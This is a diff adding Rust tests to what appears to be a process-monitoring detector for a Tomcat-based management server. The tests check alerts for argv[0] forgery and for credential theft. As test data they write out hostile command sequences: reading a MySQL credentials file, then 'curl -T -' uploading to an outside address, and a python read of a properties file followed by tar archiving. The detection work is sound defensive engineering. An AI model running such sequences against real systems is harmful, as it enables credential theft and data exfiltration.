@@ -546,6 +546,14 @@ fn b1_helper_subshell_payload() {
     // The helper's own baseline call stays quiet.
     let alerts = fresh_spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
     assert!(alerts.is_empty(), "{:?}", ids(&alerts));
+    // argv[0] forged into the baseline command (`exec -a date /tmp/.x/p +%s`), or a copy
+    // of date no package installed: the executable decides, not argv.
+    let alerts = fresh_spawn(HELPER, "/tmp/.x/p", &["date", "+%s"]);
+    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
+    let mut w = World::new();
+    w.next_identity = Some(ExeIdentity::default());
+    let (_, alerts) = w.spawn(HELPER, "/usr/bin/date", &["date", "+%s"]);
+    assert!(has(&alerts, "EPMM-B1"), "{:?}", ids(&alerts));
 }
 
 #[test]
@@ -795,6 +803,55 @@ fn b11_database_theft() {
         &["mysqldump", "--databases", "mifs"],
     );
     assert!(!has(&alerts, "EPMM-B11"));
+}
+
+#[test]
+fn b11_secrets_then_connect_or_archive() {
+    // cat of the MySQL credentials, then curl sending something out, minutes later.
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh", "-c", "..."]);
+    w.spawn(sh, "/usr/bin/cat", &["cat", "/mi/files/system/.mifpp"]);
+    w.now += 120_000_000_000;
+    let (curl, _) = w.spawn(sh, "/usr/bin/curl", &["curl", "-T", "-", "https://x/"]);
+    let alerts = w.connect(curl, "198.51.100.7", 443);
+    assert!(has(&alerts, "EPMM-B11-EXFIL"), "{:?}", ids(&alerts));
+    let theft = alerts
+        .iter()
+        .find(|a| a.rule_id == "EPMM-B11-EXFIL")
+        .unwrap();
+    assert_eq!(theft.evidence.len(), 2, "the read and the connect");
+    // A python one-liner naming the properties, then an archiver.
+    let mut w = World::new();
+    let (py, _) = w.spawn(
+        TOMCAT,
+        "/usr/bin/python3",
+        &[
+            "python3",
+            "-c",
+            "print(open('/mi/tomcat-properties/x').read())",
+        ],
+    );
+    let (_, alerts) = w.spawn(py, "/usr/bin/tar", &["tar", "czf", "/tmp/a.tgz", "/tmp/x"]);
+    assert!(has(&alerts, "EPMM-B11-ARCHIVE"), "{:?}", ids(&alerts));
+    // Tomcat reading its own properties and talking to MySQL; a connect without a read
+    // before it; a read followed by a connect to MySQL only.
+    let mut w = World::new();
+    w.connect(TOMCAT, "198.51.100.7", 443);
+    let (sh, _) = w.spawn(
+        TOMCAT,
+        "/bin/sh",
+        &["sh", "-c", "cat /mi/files/system/.mifpp"],
+    );
+    let mut all = w.connect(sh, "127.0.0.1", 3306);
+    let mut w = World::new();
+    let (sh, _) = w.spawn(TOMCAT, "/bin/sh", &["sh"]);
+    all.extend(w.connect(sh, "198.51.100.7", 443));
+    all.extend(
+        w.spawn(sh, "/usr/bin/tar", &["tar", "czf", "/tmp/a.tgz", "/tmp/x"])
+            .1,
+    );
+    assert!(!has(&all, "EPMM-B11-EXFIL"), "{:?}", ids(&all));
+    assert!(!has(&all, "EPMM-B11-ARCHIVE"), "{:?}", ids(&all));
 }
 
 #[test]
